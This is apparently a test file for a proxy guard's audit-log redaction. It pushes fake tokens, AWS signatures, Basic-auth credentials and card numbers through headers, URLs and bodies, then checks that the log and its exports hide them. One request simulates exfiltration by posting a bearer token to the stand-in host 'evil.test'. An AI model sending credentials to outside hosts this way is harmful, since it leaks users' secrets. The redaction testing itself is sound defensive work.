"""The secret corpus through a real guard: sent in headers, Basic auth, URLs (query and path),
JSON, forms, multipart and text bodies, echoed back in simulated responses and stored in the
world, on simulated, blocked, default-denied and allowed flows. None of it, in any encoding,
may appear in the audit log or in anything exported from it."""

from __future__ import annotations

import base64
import json
from pathlib import Path
from urllib.parse import quote, quote_plus

import pytest

from guard.audit import reader
from guard.cli import main
from guard.secret_patterns import card_digits
from tests.audit.audit_helpers import HERE, RULES, session

CORPUS = json.loads((HERE / "secrets_corpus.json").read_text())


def forms_of(value: str) -> set[str]:
    """Every way a secret could be spelt in the log."""
    out = {value, quote(value, safe=""), quote_plus(value), json.dumps(value)[1:-1]}
    if len(value) >= 16:
        out.add(value[-12:])  # the secret part of a token whose public prefix is kept
    return {v for v in out if v}


def send_corpus(g, upstream_port: int) -> int:
    """Send every secret in every place it may travel; returns the number of requests."""
    s = session(g)
    n = 0

    def go(method: str, url: str, **kw) -> None:
        nonlocal n
        r = s.request(method, url, **kw)
        assert r.status_code in (200, 202, 403), (url, r.status_code, r.text[:200])
        n += 1

    for t in (x["value"] for x in CORPUS["tokens"]):
        go("GET", "https://echo.test/search", params={"q": t})
        go("GET", f"https://echo.test/keys/{t}")
        go("POST", "https://echo.test/json", json={"note": f"key is {t}", "nested": [t]})
        go("POST", "https://echo.test/form", data={"comment": t, "meta[note]": t})
        go("POST", "https://echo.test/text", data=f"token in text {t} end",
           headers={"Content-Type": "text/plain"})
        go("POST", "https://evil.test/upload", headers={"Authorization": f"Bearer {t}"},
           data=f'{{"leak": "{t}"}}')
        go("GET", f"http://127.0.0.1:{upstream_port}/allowed/x", params={"q": t},
           headers={"Authorization": f"Bearer {t}"})
    for f, v in ((x["field"], x["value"]) for x in CORPUS["named"]):
        go("POST", "https://echo.test/json", json={f: v, "user": {f: v}})
        go("POST", "https://echo.test/form", data={f: v, f"user[{f}]": v})
        go("GET", "https://echo.test/q", params={f: v})
        go("POST", "https://echo.test/multipart", data={f: v, "name": "x"},
           files={"upload": ("a.bin", b"\x00\xff binary \x00", "application/octet-stream")})
        go("POST", "https://unknown.example.org/login", data={"user": "a", f: v})
    for h in CORPUS["headers"]:
        go("GET", "https://echo.test/h", headers={h["header"]: h["value"]})
    for b in CORPUS["basic"]:
        go("POST", "https://echo.test/basic", auth=(b["user"], b["password"]),
           data={"To": "+15005550006", "Body": "hi"})
    sig = CORPUS["sigv4"]
    go("POST", "https://echo.test/v2/email/outbound-emails", json={"Content": {}}, headers={
        "Authorization": f"AWS4-HMAC-SHA256 Credential={sig['access_key']}/20260101/us-east-1/"
                         f"ses/aws4_request, SignedHeaders=host;x-amz-date, "
                         f"Signature={sig['signature']}"})
    go("GET", "https://echo.test/presigned", params={
        "X-Amz-Credential": f"{sig['access_key']}/20260101/us-east-1/s3/aws4_request",
        "X-Amz-Signature": sig["signature"]})
    for c in (x["value"] for x in CORPUS["cards"]):
        go("POST", "https://echo.test/json", json={"card_number": c, "note": f"card {c}"})
        go("POST", "https://echo.test/form", data={"card[number]": c, "card[cvc]": "314"})
        go("POST", "https://echo.test/text", data=f"pay with {c} now",
           headers={"Content-Type": "text/plain"})
        go("GET", "https://echo.test/q", params={"c": c})
    return n


def forbidden() -> dict[str, set[str]]:
    out: dict[str, set[str]] = {}
    for x in CORPUS["tokens"] + CORPUS["named"] + CORPUS["headers"]:
        out[x["name"]] = forms_of(x["value"])
    out["session cookie"] = {"ck-5f4e3d2c1b0a99887766", "dark-cookie-secret"}
    for b in CORPUS["basic"]:
        cred = f"{b['user']}:{b['password']}"
        out[b["name"]] = {base64.b64encode(cred.encode()).decode()} | (
            forms_of(b["password"]) if b["password"] else forms_of(b["user"]))
    out["sigv4"] = forms_of(CORPUS["sigv4"]["signature"]) | forms_of(CORPUS["sigv4"]["access_key"])
    for c in CORPUS["cards"]:
        digits = card_digits(c["value"])
        assert digits is not None
        out[c["name"]] = forms_of(c["value"]) | {digits, digits[:-4]}
    out["cvc"] = {"card%5Bcvc%5D=314", "card[cvc]=314", '"cvc":"314"'}
    return out


@pytest.fixture(scope="module")
def corpus_log(tmp_path_factory, confdir) -> tuple[Path, int]:
    from guard.options import Options
    from guard.proxy.embedded import RunningGuard
    from tests.audit.audit_helpers import EchoUpstream
    from tests.stores import session_store as STORE

    d = tmp_path_factory.mktemp("secrets")
    up = EchoUpstream()
    cfg = Options(rules=[str(RULES)], listen_port=0, confdir=confdir, quiet=True, state=None, store=STORE(),
                    audit=d / "audit.jsonl")
    try:
        with RunningGuard(cfg) as g:
            n = send_corpus(g, up.port)
    finally:
        up.close()
    assert up.requests, "the allowed flows did reach the stand-in real world"
    return d / "audit.jsonl", n


def test_no_secret_of_the_corpus_appears_in_the_log(corpus_log):
    log, n = corpus_log
    text = log.read_text()
    events = list(reader.events([log]))
    assert len(events) == n and not any(e.get("incomplete") for e in events)
    assert {e["action"] for e in events} == {"simulate", "block", "allow"}
    leaks = {name: sorted(f for f in spelt if f in text)
             for name, spelt in forbidden().items()}
    assert {k: v for k, v in leaks.items() if v} == {}


def test_redaction_keeps_what_an_auditor_needs(corpus_log):
    text = corpus_log[0].read_text()
    assert "Bearer sk_live_[REDACTED:" in text  # the kind of key stays visible
    assert "Basic AC0123456789abcdef0123456789abcdef:[REDACTED:" in text  # Twilio SID kept
    assert "[REDACTED:card:4242:" in text  # last four digits, as card receipts show
    assert "Credential=AKIA[REDACTED:" in text and "/us-east-1/ses/aws4_request" in text
    assert text.count("[REDACTED") > 200


def test_the_same_secret_gets_the_same_fingerprint_within_a_log(corpus_log):
    events = list(reader.events([corpus_log[0]]))
    marks = [v for e in events for k, v in e["request"]["headers"]
             if k == "authorization" and v.startswith("Bearer sk_live_")]
    others = {v for e in events for k, v in e["request"]["headers"]
              if k == "authorization" and v.startswith("Bearer sk_test_")}
    assert len(marks) == 2 and len(set(marks)) == 1  # blocked and allowed: one key
    assert len(others) == 1 and others.isdisjoint(marks)


def test_nothing_exported_from_the_log_holds_a_secret(corpus_log, tmp_path):
    log = corpus_log[0]
    har, flows, html = tmp_path / "o.har", tmp_path / "o.flows", tmp_path / "o.html"
    assert main(["audit", "export", str(log), "--har", str(har), "--mitm", str(flows),
                 "--html", str(html)]) == 0
    for out in (har, html):
        text = out.read_text()
        assert [f for spelt in forbidden().values() for f in spelt if f in text] == []
    data = flows.read_bytes()
    assert [f for spelt in forbidden().values() for f in spelt if f.encode() in data] == []
